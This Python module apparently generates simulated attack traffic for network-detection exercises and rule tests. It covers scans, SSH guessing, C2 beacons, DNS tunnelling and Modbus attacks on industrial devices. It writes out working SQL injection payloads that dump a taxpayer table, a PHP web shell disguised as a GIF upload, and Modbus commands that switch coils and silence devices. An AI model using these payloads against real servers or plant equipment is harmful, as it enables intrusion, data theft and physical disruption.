"""What attackers do, one function a step. Each takes the path, the parties and the moment it starts, and
gives the moment it ended. The exercise strings these together; the rule tests use them one by one."""
import base64
import random

import session
import wire
from apps import dns, http, modbus, ssh, tls
from capture import MILLISECOND, SECOND

SQLMAP = "sqlmap/1.7.2#stable (https://sqlmap.org)"
IMPLANT_AGENT = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)"
SQL_ERROR = (b"<html><body><b>Database error</b>: You have an error in your SQL syntax; check the manual that "
             b"corresponds to your MySQL server version for the right syntax to use near '''' at line 1</body></html>")


# ---- finding -------------------------------------------------------------------------------------

def port_scan(path, attacker, targets, ports, at, *, every=40 * MILLISECOND, open_ports=(), flags=wire.SYN):
    """One SYN (or other segment) to each port of each target; what is not open is refused."""
    sport = 50000
    for target in targets:
        for port in ports:
            sport = 50000 + (sport - 49999) % 10000
            answer = "open" if (target, port) in open_ports else "closed"
            session.probe(path, (attacker, sport), (target, port), at, answer=answer, flags=flags)
            at += every
    return at


def ping_sweep(path, attacker, targets, at, *, every=50 * MILLISECOND):
    for sequence, target in enumerate(targets):
        session.ping(path, attacker, target, at, ident=7, sequence=sequence, answered=False)
        at += every
    return at


# ---- guessing ------------------------------------------------------------------------------------

def guess_ssh(path, attacker, victim, at, *, count, every=3 * SECOND, client=ssh.GUESSER, port=41000):
    rng = random.Random("guess " + attacker + victim)
    for number in range(count):
        s = session.Tcp(path, (attacker, port + number), (victim, 22), at)
        ssh.failed_login(s, rng, client=client)
        at += every
    return at


def enter_ssh(path, attacker, victim, at, *, client=ssh.GUESSER, port=41900, commands=12):
    """The guess that was right, and what is typed after it."""
    s = session.Tcp(path, (attacker, port), (victim, 22), at)
    ssh.login(s, random.Random("enter"), commands=commands, client=client)
    return s.now


# ---- the web -------------------------------------------------------------------------------------

def exchange(s, request, answer, pause=0):
    s.send(request)
    s.reply(answer)
    s.wait(pause)


def sql_injection(path, attacker, server, host, at, *, agent=SQLMAP, port=42000):
    """Finds an injectable parameter, counts its columns, reads a table."""
    tries = [("/query.php?id=1%27", http.response(500, SQL_ERROR)),
             ("/query.php?id=1%27%20AND%20%271%27=%271", http.response(200, http.page("查询", 900))),
             ("/query.php?id=1%27%20OR%201=1--%20-", http.response(200, http.page("查询", 5000))),
             ("/query.php?id=-1%27%20UNION%20SELECT%201,2,3--%20-", http.response(500, SQL_ERROR)),
             ("/query.php?id=-1%27%20UNION%20ALL%20SELECT%20NULL,version(),NULL--%20-", http.response(200, http.page("查询", 900))),
             ("/query.php?id=-1%27%20UNION%20SELECT%20table_name,NULL,NULL%20FROM%20information_schema.tables--%20-",
              http.response(200, http.page("查询", 3000))),
             ("/query.php?id=1%27%20AND%20SLEEP(5)--%20-", http.response(200, http.page("查询", 900))),
             ("/query.php?id=-1%27%20UNION%20SELECT%20name,taxpayer_no,amount%20FROM%20declarations--%20-",
              http.response(200, http.page("申报明细", 60000)))]
    s = session.Tcp(path, (attacker, port), (server, 80), at)
    s.open()
    for uri, answer in tries:
        exchange(s, http.get(uri, host, agent=agent), answer, 2 * SECOND)
    s.close()
    return s.now


def web_shell(path, attacker, server, host, at, *, port=42100, commands=("whoami", "id", "uname -a")):
    """Uploads a shell and gives it commands."""
    s = session.Tcp(path, (attacker, port), (server, 80), at)
    s.open()
    shell = "<?php @eval($_POST['k']); if(isset($_GET['cmd'])) system($_GET['cmd']); ?>"
    body = ('--drill\r\nContent-Disposition: form-data; name="f"; filename="logo.php"\r\n'
            'Content-Type: image/gif\r\n\r\nGIF89a%s\r\n--drill--\r\n' % shell)
    headers = {"Content-Type": "multipart/form-data; boundary=drill"}
    exchange(s, http.request("POST", "/upload.php", host, body=body.encode(), headers=headers), http.response(200, b"ok"), SECOND)
    for command in commands:
        answer = http.response(200, b"GIF89auid=33(www-data) gid=33(www-data) groups=33(www-data)\n")
        exchange(s, http.get("/files/logo.php?cmd=" + command.replace(" ", "%20"), host), answer, 4 * SECOND)
    s.close()
    return s.now


def path_search(path, attacker, server, host, at, *, count=60, agent="gobuster/3.6", port=42200):
    """Asks for many names that are not there."""
    s = session.Tcp(path, (attacker, port), (server, 80), at)
    s.open()
    for number in range(count):
        exchange(s, http.get("/backup%02d.zip" % number, host, agent=agent), http.response(404, b"not found"), 100 * MILLISECOND)
    s.close()
    return s.now


# ---- calling home --------------------------------------------------------------------------------

def look_up(path, client, resolver, name, address, at, port=43000):
    kind = dns.AAAA if ":" in address else dns.A
    session.ask(path, (client, port), (resolver, 53), at, dns.query(port, name, kind), dns.answer(port, name, kind, [address]))
    return at + 10 * MILLISECOND


def download(path, client, server, host, at, *, uri="/files/update.exe", agent=http.BROWSER, port=43100):
    """A Windows program over clear HTTP; all of it but the first page is random."""
    program = (b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8" + bytes(43) + b"\x80\0\0\0\x0e\x1f\xba\x0e\0\xb4\t\xcd!\xb8\1L\xcd!"
               b"This program cannot be run in DOS mode.\r\r\n$").ljust(128, b"\0") + b"PE\0\0L\1"
    program += random.Random("program").randbytes(30000)
    s = session.Tcp(path, (client, port), (server, 80), at, rtt=30 * MILLISECOND)
    s.open()
    exchange(s, http.get(uri, host, agent=agent), http.response(200, program, kind="application/octet-stream"))
    s.close()
    return s.now


def beacon_http(path, client, server, host, at, *, count, every=60 * SECOND, port=44000):
    """Asks for orders at even intervals; now and then there is one."""
    rng = random.Random("beacon " + client)
    name = rng.randbytes(8).hex()
    for number in range(count):
        s = session.Tcp(path, (client, port + number), (server, 80), at + rng.randrange(400) * MILLISECOND, rtt=35 * MILLISECOND)
        s.open()
        order = rng.randbytes(48) if number % 10 == 9 else b""
        exchange(s, http.get("/api/v2/checkin?id=%s&n=%d" % (name, number), host, agent=IMPLANT_AGENT),
                 http.response(200, order, kind="application/octet-stream", server="Apache"))
        s.close()
        at += every
    return at


def beacon_tls(path, client, server, host, certificate, at, *, count, every=90 * SECOND, port=45000, hello=tls.IMPLANT):
    rng = random.Random("beacon tls " + client)
    for number in range(count):
        s = session.Tcp(path, (client, port + number), (server, 443), at + rng.randrange(300) * MILLISECOND, rtt=40 * MILLISECOND)
        s.open()
        tls.handshake12(s, rng, host, [certificate], hello)
        s.send(tls.data(rng, 160))
        s.reply(tls.data(rng, 96))
        s.close()
        at += every
    return at


def dns_tunnel(path, client, resolver, domain, at, *, count, every=400 * MILLISECOND, octets=60):
    """A file in the labels of TXT queries, the other side's words in the answers."""
    rng = random.Random("tunnel " + client)
    for number in range(count):
        text = base64.b32encode(rng.randbytes(octets)).decode().rstrip("=").lower()
        labels = ".".join(text[start:start + 60] for start in range(0, len(text), 60))
        name = "%04x.%s.%s" % (number, labels, domain)
        back = base64.b64encode(rng.randbytes(90))
        session.ask(path, (client, 30000 + number % 20000), (resolver, 53), at, dns.query(number, name, dns.TXT),
                    dns.answer(number, name, dns.TXT, [back], ttl=0), rtt=45 * MILLISECOND)
        at += every
    return at


# ---- the plant -----------------------------------------------------------------------------------

def modbus_sweep(path, source, targets, present, at, *, every=200 * MILLISECOND, port=46000):
    """Looks for port 502 on each target; `present` is the list of those that have it."""
    open_ports = [(target, 502) for target in present]
    return port_scan(path, source, targets, [502], at, every=every, open_ports=open_ports)


def modbus_identify(path, source, targets, at, *, port=46500):
    """Asks each device who it is, then reads its coils to see what is there."""
    for number, target in enumerate(targets):
        m = modbus.Master(session.Tcp(path, (source, port + number), (target, 502), at, rtt=4 * MILLISECOND))
        m.ask(modbus.identify(1), modbus.identification(1, "Drill Automation", "RTU-%d" % number, "2.1"))
        m.ask(modbus.read(modbus.READ_COILS, 0, 16), modbus.coils(modbus.READ_COILS, [1, 0] * 8))
        m.s.close()
        at = m.s.now + 500 * MILLISECOND
    return at


def modbus_unit_search(path, source, target, at, *, units=range(1, 40), port=46600):
    """Tries unit identifiers behind a gateway, one after another."""
    m = modbus.Master(session.Tcp(path, (source, port), (target, 502), at, rtt=4 * MILLISECOND))
    for unit in units:
        m.unit = unit
        m.ask(modbus.read(modbus.READ_HOLDING, 0, 1), modbus.exception(modbus.READ_HOLDING, 11))
    m.s.close()
    return m.s.now


def modbus_guess_addresses(m, count, every=300 * MILLISECOND):
    """Writes where nothing is: the device refuses each time."""
    for number in range(count):
        m.ask(modbus.write_register(5000 + number, 1), modbus.exception(modbus.WRITE_REGISTER, modbus.ILLEGAL_ADDRESS))
        m.s.wait(every)


def modbus_switch(m, coils, every=2 * SECOND):
    """Opens and closes switches."""
    for address, on in coils:
        m.command(modbus.write_coil(address, on))
        m.s.wait(every)


def modbus_silence(m):
    """Restarts the device's communication, then forces it to listen only: there is no answer to that."""
    m.command(modbus.diagnostics(modbus.RESTART_COMMUNICATIONS, 0xFF00))
    m.s.wait(SECOND)
    m.ask(modbus.diagnostics(modbus.FORCE_LISTEN_ONLY))
